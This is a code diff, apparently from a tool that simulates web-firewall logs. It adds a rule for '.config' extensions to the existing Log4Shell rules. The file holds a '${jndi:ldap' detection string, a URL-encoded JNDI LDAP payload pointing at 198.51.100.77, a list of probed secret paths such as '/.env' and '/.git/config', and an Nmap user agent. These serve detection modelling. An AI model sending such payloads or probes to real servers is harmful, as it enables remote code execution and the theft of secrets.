@@ -12,6 +12,13 @@ const LOG4SHELL_RULES = {
   data: '${jndi:ldap',
 } as const
 
+const EXTENSION_RULE = {
+  group: 'AWSManagedRulesCommonRuleSet',
+  rule: 'RestrictedExtensions_URIPATH',
+  type: 'SIZE_CONSTRAINT',
+  data: '.config',
+} as const
+
 const SEARCHED = ['/.env', '/.git/config', '/wp-login.php', '/actuator/env', '/manager/html', '/phpmyadmin/'] as const
 /** What the web ACL stops, and how it was written in the end: a form that the rules did not know. */
 const STOPPED_QUERY = 'q=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.77%2Fa%7D'
@@ -71,6 +78,7 @@ function requestOf({ attacker }: Plot, path: string, query: string, blocked: boo
     path,
     query,
     userAgent: 'Mozilla/5.0 (compatible; Nmap Scripting Engine)',
-    attack: blocked ? LOG4SHELL_RULES : undefined,
+    // The rule about extensions only counts.
+    attack: blocked ? LOG4SHELL_RULES : path === '/.git/config' ? EXTENSION_RULE : undefined,
   }
 }
